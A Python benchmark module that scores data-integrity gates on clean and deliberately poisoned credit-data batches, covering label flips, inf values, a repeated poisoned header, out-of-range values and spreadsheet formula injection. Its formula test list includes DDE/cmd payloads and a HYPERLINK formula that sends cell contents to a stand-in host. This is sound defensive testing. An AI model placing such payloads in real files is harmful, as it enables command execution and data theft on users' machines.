"""The data integrity and validation gates on clean and poisoned batches: false alarms and recall (issue 21).

Every batch is drawn like the demo's (``credit_frame``, a seed of its own) and judged against the
demo's trusted reference (``dags/data/credit_reference.csv``: ``credit_frame(rows=3000, seed=1)``).

* **False alarms**: clean batches of 1,000 and 5,000 rows (7 seeds each; ``--quick``: 1,000 rows
  only). Ours is the gate as it is (calibrated label-flip model); the peer is the previous code path,
  measured in the same run: one random forest fitted on the whole reference, its raw probabilities,
  the same mixture estimate and test (limit 3%, p < 0.001), and cleanlab's ``find_label_issues`` on
  those probabilities for the rows it names.
* **Recall** on a labelled set of poisonings of 2,000-row batches (2 seeds each; ``--quick``: 1):
  label flips at 5/10/20% of the rows, random or targeted (defaulters relabelled as
  non-defaulters; 20% asks more than the ~22% defaulters allow past the identifiable limit), rows
  with ``inf``, a repeated column header whose second copy is poisoned, spreadsheet formulas in a
  text column, values out of the reference's range. Peers: the previous estimator for flips and
  ``inf`` (which crashed on it), ``pd.read_csv`` + Great Expectations for the repeated header (what
  the validation gate did), the naive OWASP prefix rule for formulas (its false alarms on negative
  numbers and phone numbers are a row of their own).
* **Time** of the label-flip check on a 5,000-row batch: five calibrated fold forests vs one.
"""

from __future__ import annotations

import time
from typing import Any

from benchmarks._common import Row, Target, median, tmp_root

GROUP = "integrity"
LIMIT = 0.03
SIGNIFICANCE = 0.001


def _frames(batch: Any, reference: Any) -> Any:
    from airflow_mlsecops.demo.example_data import LABEL
    from airflow_mlsecops.gates.data_integrity.schema import _schema
    from airflow_mlsecops.gates.data_integrity.thresholds import IntegrityThresholds

    return _schema(batch, reference, LABEL, IntegrityThresholds())[1]


def _old_label_flips(frames: Any) -> tuple[bool, float]:
    """The previous code path: one forest on the reference, raw probabilities; (failed, share cleanlab flags)."""
    import warnings

    import numpy as np
    from cleanlab.filter import find_label_issues
    from sklearn.ensemble import RandomForestClassifier

    from airflow_mlsecops.gates.data_integrity.label_flips import _flip_share
    from airflow_mlsecops.gates.data_integrity.schema import _numeric

    features = [f.name for f in frames.features]
    x_ref = np.column_stack([_numeric(frames.reference[f], "float") for f in features])
    x_batch = np.column_stack([_numeric(frames.batch[f], "float") for f in features])
    y_ref = frames.reference[frames.label].to_numpy(dtype=int)
    y_batch = frames.batch[frames.label].to_numpy(dtype=int)
    model = RandomForestClassifier(n_estimators=100, min_samples_leaf=5, n_jobs=2, random_state=0).fit(x_ref, y_ref)
    model.set_params(n_jobs=1)
    probabilities = model.predict_proba(x_batch)  # raises on inf, as the old gate did
    share, p_value = _flip_share(probabilities[np.arange(len(y_batch)), y_batch], 2)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        issues = find_label_issues(y_batch, probabilities, return_indices_ranked_by="self_confidence", n_jobs=1)
    return share > LIMIT and p_value < SIGNIFICANCE, len(issues) / len(y_batch)


def _flip(batch: Any, rate: float, targeted: bool, seed: int) -> Any:
    import numpy as np

    from airflow_mlsecops.demo.example_data import LABEL

    batch = batch.copy()
    rng = np.random.default_rng(seed)
    count = int(rate * len(batch))
    pool = np.flatnonzero(batch[LABEL].to_numpy() == 1) if targeted else np.arange(len(batch))
    rows = rng.choice(pool, min(count, len(pool)), replace=False)
    batch.loc[rows, LABEL] = 1 - batch.loc[rows, LABEL]
    return batch


def _share(values: list[bool]) -> float:
    return sum(values) / len(values) if values else 0.0


def run(quick: bool) -> list[Row]:
    import logging
    import warnings

    import numpy as np
    import pandas as pd

    from airflow_mlsecops.demo.example_data import LABEL, credit_frame
    from airflow_mlsecops.gates.data_integrity import check_integrity
    from airflow_mlsecops.gates.data_integrity.cells import is_formula
    from airflow_mlsecops.gates.data_integrity.gate import _evaluate
    from airflow_mlsecops.gates.data_integrity.label_flips import _label_flips
    from airflow_mlsecops.gates.data_validation import validate_data
    from benchmarks._common import REPO_ROOT

    warnings.simplefilter("ignore")
    logging.getLogger("great_expectations").setLevel(logging.WARNING)
    reference_path = str(REPO_ROOT / "dags" / "data" / "credit_reference.csv")
    reference = pd.read_csv(reference_path)
    work = tmp_root() / "integrity"
    work.mkdir(parents=True, exist_ok=True)
    rows: list[Row] = []

    # ------------------------------------------------------------------ false alarms on clean batches
    sizes = (1000,) if quick else (1000, 5000)
    clean_seeds = range(100, 107)
    ours_flip, peer_flip, ours_gate, peer_gate, ours_listed, peer_listed = [], [], [], [], [], []
    for size in sizes:
        for seed in clean_seeds:
            batch = credit_frame(rows=size, seed=seed)
            checks = {c.id: c for c in _evaluate(batch, reference, label_column=LABEL)}
            old_failed, old_issues = _old_label_flips(_frames(batch, reference))
            flips = checks["integrity.label_flips"]
            others_failed = any(c.status == "failed" for cid, c in checks.items() if cid != "integrity.label_flips")
            ours_flip.append(flips.status == "failed")
            peer_flip.append(old_failed)
            ours_gate.append(others_failed or flips.status == "failed")
            peer_gate.append(others_failed or old_failed)
            ours_listed.append(flips.rows_total / size)
            peer_listed.append(old_issues)
    batches = f"{len(ours_flip)} clean batches ({' and '.join(f'{s:,}' for s in sizes)} rows, seeds 100-106)"
    previous = "previous: one forest, raw probabilities"
    rows += [
        Row(
            group=GROUP,
            name="clean batches failing the label-flip check",
            unit="share",
            ours=_share(ours_flip),
            peer=_share(peer_flip),
            peer_label=previous,
            ratio=None,
            target=Target("abs", "<=", 0.0),
            runs=len(ours_flip),
            notes=f"{batches}; ours {sum(ours_flip)}, previous {sum(peer_flip)} failed",
        ),
        Row(
            group=GROUP,
            name="clean batches failing the integrity gate",
            unit="share",
            ours=_share(ours_gate),
            peer=_share(peer_gate),
            peer_label="the other checks + previous flip check",
            ratio=None,
            target=Target("abs", "<=", 0.0),
            runs=len(ours_gate),
            notes=batches,
        ),
        Row(
            group=GROUP,
            name="clean-batch rows named as likely mislabelled",
            unit="share",
            ours=float(np.mean(ours_listed)),
            peer=float(np.mean(peer_listed)),
            peer_label="cleanlab find_label_issues, raw probabilities",
            ratio=None,
            runs=len(ours_listed),
            notes=f"mean share of rows; previous max {max(peer_listed):.1%}",
        ),
    ]

    # ------------------------------------------------------------------ recall on label flips
    seeds = range(200, 201) if quick else range(200, 202)
    for targeted in (False, True):
        for rate in (0.05, 0.10, 0.20):
            ours_hit, peer_hit = [], []
            for seed in seeds:
                batch = _flip(credit_frame(rows=2000, seed=seed), rate, targeted, seed)
                frames = _frames(batch, reference)
                frames.random_state = 0
                ours_hit.append(_label_flips(frames).status == "failed")
                peer_hit.append(_old_label_flips(frames)[0])
            kind = "targeted (1 -> 0)" if targeted else "random"
            rows.append(
                Row(
                    group=GROUP,
                    name=f"label flips {kind} {rate:.0%}: detected",
                    unit="share",
                    ours=_share(ours_hit),
                    peer=_share(peer_hit),
                    peer_label=previous,
                    ratio=None,
                    # 5% random flips in 2,000 rows sit at the edge of what the label noise lets through
                    target=Target("abs", ">=", 0.5 if rate == 0.05 and not targeted else 1.0),
                    runs=len(ours_hit),
                    notes=f"2,000-row batches, seed(s) {', '.join(map(str, seeds))}; label_flips check alone",
                )
            )

    # ------------------------------------------------------------------ inf, out of range
    inf_ours, inf_peer, oor_ours = [], [], []
    for seed in seeds:
        batch = credit_frame(rows=2000, seed=seed + 50)
        batch["income"] = batch["income"].astype(float)
        poisoned = batch.copy()
        poisoned.loc[poisoned.index[::200], "income"] = np.inf  # 10 rows, 0.5%
        outcome = check_integrity(_write(poisoned, work, f"inf-{seed}.csv"), reference_path, label_column=LABEL)
        inf_ours.append(outcome.error is None and "integrity.non_finite" in {f.id for f in outcome.result.failed_findings})
        try:
            inf_peer.append(_old_label_flips(_frames(poisoned, reference))[0])
        except ValueError:
            inf_peer.append(False)  # the previous gate crashed here: an internal error, not a finding
        out = batch.copy()
        out.loc[out.index[::50], "age"] = 140  # 2%
        checks = {c.id: c for c in _evaluate(out, reference, label_column=LABEL)}
        oor_ours.append(checks["integrity.out_of_range"].status == "failed")
    rows += [
        Row(
            group=GROUP,
            name="inf in 0.5% of rows: rejected as a finding",
            unit="share",
            ours=_share(inf_ours),
            peer=_share(inf_peer),
            peer_label="previous: forest raised (internal error)",
            ratio=None,
            target=Target("abs", ">=", 1.0),
            runs=len(inf_ours),
        ),
        Row(
            group=GROUP,
            name="age 140 in 2% of rows: out_of_range",
            unit="share",
            ours=_share(oor_ours),
            ratio=None,
            target=Target("abs", ">=", 1.0),
            runs=len(oor_ours),
            notes="check unchanged (info)",
        ),
    ]

    # ------------------------------------------------------------------ repeated header
    batch = credit_frame(rows=1000, seed=300)
    dup = work / "dup.csv"
    pd.concat([batch, (batch["income"] * 100).rename("income")], axis=1).to_csv(dup, index=False)
    suite = {
        "name": "income",
        "expectations": [
            {"type": "expect_column_values_to_be_between", "kwargs": {"column": "income", "min_value": 0, "max_value": 1e6}}
        ],
    }
    refused = [
        "repeats the column name(s) 'income'" in validate_data(str(dup), suite).result.summary,
        "repeats the column name(s) 'income'" in check_integrity(str(dup), reference_path, label_column=LABEL).result.summary,
    ]
    from benchmarks.validation import _gx_direct

    gx_passed = bool(_gx_direct(pd.read_csv(dup)).success)
    rows.append(
        Row(
            group=GROUP,
            name="repeated header, poisoned 2nd copy: refused",
            unit="share",
            ours=_share(refused),
            peer=0.0 if gx_passed else 1.0,
            peer_label="pd.read_csv + GX (judges the 1st copy)",
            ratio=None,
            target=Target("abs", ">=", 1.0),
            runs=len(refused),
            notes="validation and integrity gates; the peer's verdict: " + ("passed" if gx_passed else "failed"),
        )
    )

    # ------------------------------------------------------------------ formulas
    payloads = [
        "=1+1",
        '=HYPERLINK("http://x.example/?"&A1,"a")',
        "@SUM(A1:A9)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        " =2*3",
        '=DDE("cmd";"/C calc";"A")',
        "-A1*10",
    ]
    benign = ["-5", "-12.50", "+44 20 7946 0958", "+1 (202) 555-0143", "-1.5e-3", "-", "+", "-0", "+33 1 23 45 67 89", "-(42)"]

    def naive(cell: str) -> bool:
        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")

    rows += [
        Row(
            group=GROUP,
            name="formula payloads recognised",
            unit="share",
            ours=_share([is_formula(p) for p in payloads]),
            peer=_share([naive(p) for p in payloads]),
            peer_label="naive OWASP prefix rule",
            ratio=None,
            target=Target("abs", ">=", 1.0),
            runs=len(payloads),
        ),
        Row(
            group=GROUP,
            name="negative numbers / phone numbers flagged",
            unit="share",
            ours=_share([is_formula(b) for b in benign]),
            peer=_share([naive(b) for b in benign]),
            peer_label="naive OWASP prefix rule",
            ratio=None,
            target=Target("abs", "<=", 0.0),
            runs=len(benign),
            notes="false alarms on text cells that are numbers",
        ),
    ]

    # ------------------------------------------------------------------ time of the flip check
    batch = credit_frame(rows=5000, seed=400)
    frames = _frames(batch, reference)
    ours_t, peer_t = [], []
    for _ in range(2 if quick else 3):
        start = time.perf_counter()
        _label_flips(frames)
        ours_t.append(time.perf_counter() - start)
        start = time.perf_counter()
        _old_label_flips(frames)
        peer_t.append(time.perf_counter() - start)
    rows.append(
        Row(
            group=GROUP,
            name="label-flip check, 5,000 rows vs 3,000 reference",
            unit="ms",
            ours=median(ours_t) * 1e3,
            peer=median(peer_t) * 1e3,
            peer_label=previous,
            runs=len(ours_t),
            notes="five calibrated fold forests vs one (info)",
        )
    )
    return rows


def _write(frame: Any, directory: Any, name: str) -> str:
    path = directory / name
    frame.to_csv(path, index=False)
    return str(path)
